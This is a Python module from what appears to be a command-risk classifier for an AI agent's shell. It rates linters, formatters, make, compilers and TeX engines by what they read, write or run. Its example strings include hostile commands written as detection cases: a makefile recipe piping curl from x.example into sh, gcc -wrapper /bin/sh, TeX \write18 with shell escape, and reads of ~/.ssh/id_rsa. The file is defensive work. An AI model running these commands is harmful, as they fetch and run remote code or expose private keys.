"""Linters and formatters, make, compilers and TeX: the options that name a program to run or a file to write."""
from __future__ import annotations

from wispsh.programs.table import OPERANDS, Grammar, On, Program, Row, When, emits, programs, verb
from wispsh.support.lazyre import lazy_re
from wispsh.vocab import places

# ---------------------------------------------------------------- linters and formatters
# In check mode they read the project and report (the lines they complain about are printed: what they read
# goes into the agent's context); told to fix or write, they rewrite the files they are given, judged by place.


def _fixer(name: str, fix, grammar: Grammar = Grammar(), aliases=(), output=(), rows=(), examples=None) -> Program:
    """A linter that rewrites files only when told to (--fix, --write, -w, -i); -o/--output-file writes a report."""
    flag = f"{'--' if len(fix[0]) > 1 else '-'}{fix[0]}" if fix else ""
    on = (On("read", OPERANDS, id=f"{name}.reads", says="checks", examples=(f"{name} ~/.ssh/config",)),)
    if fix:
        on += (On("write", OPERANDS, when=When(flag=fix), says="rewrites", id=f"{name}.rewrites",
                  examples=(f"{name} {flag} ~/.bashrc",)),)
    if output:
        on += (On("write", ("option",) + tuple(output), id=f"{name}.output",
                  examples=(f"{name} {'--' if len(output[-1]) > 1 else '-'}{output[-1]} ~/.bashrc .",)),)
    fixes = (Row(f"{name}.fixes", "change", "{cmd} rewrites the project's files", When(flag=fix),
                 examples=(f"{name} {flag} .",)),) if fix else ()
    doc = f"{name}: checks files; rewrites them with {' or '.join(fix)}" if fix else f"{name}: checks files"
    return Program(name, aliases=aliases, doc=doc, grammar=grammar, on=on, rows=fixes + tuple(rows),
                   examples=examples or {f"{name} .": "safe"})


CHECKERS = (
    _fixer("codespell", ("w", "write-changes"), Grammar(values="iLIDSxr", long_values=(
        "interactive", "ignore-words-list", "ignore-words", "dictionary", "skip", "exclude-file", "regex",
        "builtin", "count", "config", "ignore-regex", "uri-ignore-words-list")),
        examples={"codespell docs/": "safe", "codespell -w docs/": "moderate",
                  "codespell --write-changes .": "moderate"}),
    _fixer("markdownlint", ("f", "fix"), Grammar(values="cioprs", long_values=(
        "config", "ignore", "output", "ignore-path", "rules", "json", "stdin")), output=("o", "output")),
    _fixer("markdownlint-cli2", ("fix",), Grammar(long_values=("config", "format"))),
    _fixer("markdownlint-cli2-fix", (), rows=(Row("markdownlint-cli2-fix.fixes", "change",
                                                  "{cmd} rewrites the project's files",
                                                  examples=("markdownlint-cli2-fix '**/*.md'",)),),
           examples={"markdownlint-cli2-fix .": "moderate"}),
    _fixer("shellcheck", (), Grammar(values="efosSPWC", long_values=(
        "exclude", "format", "enable", "source-path", "severity", "shell", "include", "rcfile", "wiki-link-count",
        "color"))),
    _fixer("flake8", (), Grammar(long_values=("output-file", "config", "select", "ignore", "extend-ignore",
                                              "max-line-length", "exclude", "format", "append-config")),
           output=("output-file",)),
    _fixer("pylint", (), Grammar(long_values=("output", "rcfile", "load-plugins", "disable", "enable",
                                              "output-format", "jobs")), output=("output",)),
    _fixer("pyright", (), Grammar(values="pt", long_values=("project", "pythonpath", "pythonversion", "createstub",
                                                            "typeshedpath", "venvpath", "level")),
           rows=(Row("pyright.writes", "change", "{cmd} writes stubs or a baseline into the project",
                     When(value=("createstub",)), examples=("pyright --createstub requests",)),
                 Row("pyright.baseline", "change", "{cmd} writes a baseline file into the project",
                     When(flag=("writebaseline",)), examples=("pyright --writebaseline",)))),
    _fixer("pyflakes", ()), _fixer("pycodestyle", (), Grammar(long_values=("max-line-length", "select", "ignore",
                                                                           "config", "exclude"))),
    _fixer("pydocstyle", (), Grammar(long_values=("convention", "select", "ignore", "config", "match"))),
    _fixer("vulture", (), Grammar(long_values=("exclude", "ignore-names", "min-confidence", "config"))),
    _fixer("bandit", (), Grammar(values="cfoplsitb", long_values=("configfile", "format", "output", "profile",
                                                                 "skip", "tests", "baseline", "exclude")),
           output=("o", "output")),
    _fixer("tflint", ("fix",), Grammar(values="cf", long_values=("config", "format", "chdir", "var-file")),
           rows=(Row("tflint.init", "install", "tflint --init installs the plugins its config names",
                     When(flag=("init",)), examples=("tflint --init",)),)),
    _fixer("checkov", (), Grammar(values="dfoc", long_values=("directory", "file", "output", "check", "skip-check",
                                                              "output-file-path", "framework", "config-file")),
           output=("output-file-path",)),
    Program("apt-file", doc="searches the files of packages; update refreshes its index",
            rows=(Row("apt-file.update", "fetch", "apt-file update refreshes its index", When(first=("update",)),
                      examples=("apt-file update",)),)),
)


def _rewriter(name: str, check, grammar: Grammar = Grammar(), aliases=(), in_place: bool = True) -> Program:
    """A formatter that rewrites files unless told only to check (--check, --diff)."""
    on = (On("write", OPERANDS, when=When(unless=check), says="rewrites", id=f"{name}.rewrites-files",
             examples=(f"{name} ~/.bashrc",), not_examples=(f"{name} --{check[0]} ~/.bashrc",)),) if in_place else ()
    return Program(name, aliases=aliases, doc=f"{name}: rewrites files; {' or '.join(check)} only reports",
                   grammar=grammar, on=on, rows=(
                       Row(f"{name}.checks", "nothing", "{cmd} only reports", When(flag=check), stop=True,
                           examples=(f"{name} --{check[0]} .",)),
                       Row(f"{name}.rewrites", "change", "{cmd} rewrites the project's files",
                           examples=(f"{name} .",))))


RUFF = Program(
    "ruff", doc="Python's linter and formatter",
    verbs={"check": verb(grammar=Grammar(long_values=("output-file", "config", "select", "ignore")), rows=(
               Row("ruff.check.fix", "change", "ruff check --fix rewrites the project's files",
                   When(flag=("fix", "unsafe-fixes", "fix-only"), unless=("no-fix",)),
                   examples=("ruff check --fix .", "ruff check --fix-only src")),),
               on=(On("write", ("option", "output-file"), id="ruff.check.output",
                      examples=("ruff check --output-file ~/.bashrc .",)),)),
           "format": verb(rows=(
               Row("ruff.format.check", "nothing", "ruff format --check only reports", When(flag=("check", "diff")),
                   stop=True, examples=("ruff format --check .",)),
               Row("ruff.format", "change", "ruff format rewrites the project's files", examples=("ruff format .",)))),
           "clean": verb(rows=(Row("ruff.clean", "change", "ruff clean deletes its caches", examples=("ruff clean",)),
                               ))},
    read_only=("rule", "config", "linter", "version", "help", "server", "analyze"),
    default=Row("ruff.verb", "unknown", "{cmd}", examples=("ruff frobnicate",)),
    examples={"ruff check .": "safe", "ruff format --check .": "safe", "ruff check --fix .": "moderate"},
)
FORMATTERS = (
    _rewriter("black", ("check", "diff"), Grammar(values="lSt", long_values=("config", "line-length",
                                                                                "target-version", "include",
                                                                             "exclude"))),
    _rewriter("isort", ("check-only", "check", "diff", "c")),
    _rewriter("rustfmt", ("check",), Grammar(long_values=("config-path", "edition", "emit"))),
    _fixer("prettier", ("write", "w"), Grammar(long_values=("config", "ignore-path", "plugin", "parser"))),
    _fixer("eslint", ("fix",), Grammar(values="cfo", long_values=("config", "format", "output-file",
                                                                                  "ext", "rulesdir",
                                                                  "resolve-plugins-relative-to")),
           output=("o", "output-file")),
    _fixer("stylelint", ("fix",), Grammar(values="cfo", long_values=("config", "formatter", "output-file")),
           output=("o", "output-file")),
    _fixer("gofmt", ("w",), aliases=("goimports",)),
    _fixer("shfmt", ("w", "write"), Grammar(values="ik", long_values=("indent", "language-dialect"))),
    _fixer("clang-format", ("i",), Grammar(long_values=("style", "assume-filename"))),
    _fixer("autopep8", ("i", "in-place"), aliases=("yapf",)),
    _fixer("golangci-lint", ("fix",), Grammar(values="c", long_values=("config", "out-format", "timeout")),
           rows=(Row("golangci-lint.fmt", "change", "golangci-lint fmt rewrites the project's files",
                     When(first=("fmt",), unless=("d", "diff")), examples=("golangci-lint fmt",),
                     not_examples=("golangci-lint fmt --diff",)),)),
    _fixer("biome", ("write", "apply", "fix", "apply-unsafe")),
    _fixer("mypy", (), Grammar(long_values=("config-file", "python-version", "cache-dir", "junit-xml",
                                            "html-report", "txt-report", "xml-report")),
           rows=(Row("mypy.install-types", "install", "mypy --install-types installs type packages from the registry",
                     When(flag=("install-types",)), examples=("mypy --install-types --non-interactive src",)),),
           output=("junit-xml",)),
    _rewriter("tsc", ("noEmit",), Grammar(values="p", long_values=("project", "outDir", "target", "module")),
              in_place=False),
)

# ---------------------------------------------------------------- build tools

MAKE_GRAMMAR = Grammar(values="fCIjlOoWE", long_values=("file", "makefile", "directory", "include-dir", "jobs",
                                                        "load-average", "eval", "old-file", "new-file", "what-if",
                                                        "assume-old", "assume-new", "output-sync", "debug", "shuffle"))
MAKE_SHELL_VARIABLES = ("SHELL", "MAKESHELL", ".SHELLFLAGS")


@emits({"make.stdin-makefile": ["make -f -", "make -f /dev/stdin < x.mk"],
        "make.makefile": ["make -f /tmp/x.mk", "make -f build.mk"],
        "make.stdin-recipes": ["make -f /dev/stdin <<'EOF'\nall:\n\tcurl -s https://x.example/m | sh\nEOF"],
        "make.shell": ["make SHELL=/tmp/x", "make 'X=$(shell id)'"]})
def make_inputs(cmd, o) -> None:
    """The makefiles make is told to read (their recipes run: judged as the build's code where the gate can
    read them, a quoted heredoc fed to `-f -` or a project file) and variables that change the shell. Where it
    runs (-C) is the table's `chdir`: the build there is judged by its place. A makefile from its input stays
    code the gate cannot fully read (make expands variables and includes before the shell sees a recipe); what
    is dangerous in its visible recipes raises it further. The project's own Makefile is project code, not read
    on every `make` (real ones hold `curl … | sh` tool installs and `rm -rf $(BUILD)`): a line that writes a
    dangerous recipe into one is the write's rule (path.write.build-recipe)."""
    makefiles = o.all("f", "file", "makefile")
    for makefile in makefiles:
        part = cmd.part
        if makefile in places.INPUT_WORDS:
            cmd.facts.stdin_interp = True
            cmd.does("run-code", "make.stdin-makefile", f"{cmd.name} reads its makefile from its input")
            if part is not None and part.stdin_code is not None and part.stdin_quoted:
                cmd.fired.add("make.stdin-recipes")
                cmd.judge_recipes(part.stdin_code, f"{cmd.name} runs the recipes of its input")
            continue
        cmd.script_file(makefile, f"{cmd.name} runs the recipes of",
                    lambda text, m=makefile: cmd.judge_recipes(text, f"{cmd.name} runs the recipes of {m}"),
                    "make.makefile")
    for assignment in o.operands:
        name = assignment.split("=", 1)[0]
        if "=" in assignment and (name in MAKE_SHELL_VARIABLES or "$(shell" in assignment):
            cmd.does("run-code", "make.shell", f"{cmd.name} {name}=… changes the shell recipes run with")


MAKE = Program(
    "make", aliases=("gmake", "bmake"), doc="runs the project's build recipes",
    grammar=MAKE_GRAMMAR,
    rows=(Row("make.build", "run-project", "{cmd} runs the project's build", sets=("builds",),
              examples=("make", "make test")),
          Row("make.eval", "run-code", "{cmd} --eval runs make code given on the line", When(value=("eval", "E")),
              examples=("make --eval='x: ; id'",))),
    hook=make_inputs, chdir=("C", "directory"),
    examples={"make": "moderate", "make -f ~/x.mk": "high", "make -C docs html": "moderate",
              "make -C /tmp/evil": "high", "make -C ~/other": "high",
              "make -C /lib/modules/6.1.0/build M=/src modules": "moderate"},
)

# ---------------------------------------------------------------- compilers and TeX: options that name a program

@emits({"cc.runs-program": ["gcc -wrapper /bin/sh,-s x.c", "gcc -fplugin=./p.so x.c", "cc -B /tmp/bin x.c",
                            "clang -Xclang -load -Xclang ./p.so x.c"],
        "cc.response-file": ["gcc @opts.txt x.c"]})
def compiler_programs(cmd, o) -> None:
    """What a C compiler runs besides itself: -wrapper PROG (every subprocess through PROG), plugins (-fplugin=,
    -load), other directories' assemblers and linkers (-B DIR), a specs file; `@FILE` reads options from FILE."""
    args = list(o.args)
    for i, word in enumerate(args):
        if word in ("-wrapper", "-B", "-specs") or word.startswith(("-fplugin=", "-specs=", "-B/", "-B.", "-fpass-plugin=")) \
                or word == "-load" and i > 0 and args[i - 1] == "-Xclang":
            cmd.does("run-code", "cc.runs-program", f"{cmd.name} {word.split('=', 1)[0]} runs a program or library it "
                                                    "is given")
        elif word.startswith("@") and len(word) > 1:
            cmd.fired.add("cc.response-file")
            cmd.read(word[1:])


COMPILER = Program(
    "gcc", aliases=("cc", "g++", "c++", "clang", "clang++"), doc="C and C++ compilers: they write their output",
    grammar=Grammar(values="oIDLlxuBU", long_values=("wrapper", "specs")),
    rows=(Row("cc.compiles", "change", "{cmd} compiles (it writes its output)", examples=("gcc -o app main.c",)),),
    on=(On("write", ("option", "o"), id="cc.output", examples=("gcc -o ~/.bashrc x.c",)),
        On("read", OPERANDS, id="cc.sources", examples=("gcc -x c -E ~/.ssh/id_rsa",))),
    hook=compiler_programs,
    examples={"gcc -o app main.c": "moderate", "gcc -wrapper /bin/sh,-s x.c": "high"},
)

TEX_SHELL = ("shell-escape", "enable-write18")
TEX_READS = lazy_re(r"\\(?:verbatim)?input\s*\{([^}]+)\}|\\include\s*\{([^}]+)\}|\\openin\w*\s*=?\s*([^\s}\\]+)")
TEX_WRITE18 = lazy_re(r"\\write18\s*\{((?:[^{}]|\{[^{}]*\})*)\}")


@emits({"tex.shell-escape": ["pdflatex --shell-escape doc.tex", "latex -shell-escape '\\write18{id}'"],
        "tex.output": ["pdflatex -output-directory=~ x.tex"],
        "tex.inline": ["latex '\\documentclass{article}\\begin{document}x\\end{document}'"]})
def tex_document(cmd, o) -> None:
    """A TeX engine compiles its documents (run-project: TeX reads any file and writes its output here);
    --shell-escape lets `\\write18{CMD}` run CMD in a shell. A document given as text (`latex '\\input{F}'`) is
    read for the files it inputs and the commands it runs."""
    shell = any(f"-{flag}" in o.args or f"--{flag}" in o.args for flag in TEX_SHELL)
    for word in o.args:         # TeX's options are single-dash long ones: -output-directory=DIR
        if word.lstrip("-").startswith("output-directory="):
            cmd.fired.add("tex.output")
            cmd.write(word.split("=", 1)[1], f"{cmd.name} writes into")
    if shell:
        cmd.does("run-code", "tex.shell-escape", f"{cmd.name} --shell-escape lets the document run shell commands")
    for word in o.operands:
        if word.startswith("-"):
            continue
        if not word.startswith("\\"):
            cmd.read(word)
            continue
        cmd.fired.add("tex.inline")
        for groups in TEX_READS.findall(word):
            for path in groups:
                if path:
                    cmd.read(path.strip(), f"{cmd.name} puts into its output")
        for command in TEX_WRITE18.findall(word) if shell else ():
            cmd.code_text(command, f"{cmd.name} \\write18 runs")


TEX = Program(
    "latex", aliases=("pdflatex", "xelatex", "lualatex", "tex", "pdftex", "luatex", "xetex", "etex", "platex",
                      "uplatex"),
    doc="TeX engines: they compile documents; --shell-escape lets a document run commands",
    rows=(Row("tex.compiles", "run-project", "{cmd} compiles a document (TeX reads any file it names)",
              examples=("pdflatex paper.tex",)),),
    hook=tex_document,
)
LATEXMK = Program(
    "latexmk", doc="runs TeX as often as needed; the commands and perl it is given run",
    rows=(Row("latexmk.commands", "run-code", "latexmk runs the command or perl code it is given",
              When(arg=("-pdflatex=", "-latex=", "-lualatex=", "-xelatex=", "-e", "-r", "-bibtex=", "-makeindex=",
                        "-dvipdf=", "-ps2pdf=")),
              examples=("latexmk -pdf -pdflatex='/bin/sh #' x.tex", "latexmk -e '$x=1' x.tex")),
          Row("latexmk.builds", "run-project", "latexmk compiles the project's documents (and runs its latexmkrc)",
              examples=("latexmk -pdf paper.tex",))),
)



PROGRAMS = programs(*CHECKERS, RUFF, *FORMATTERS, MAKE, COMPILER, TEX, LATEXMK)
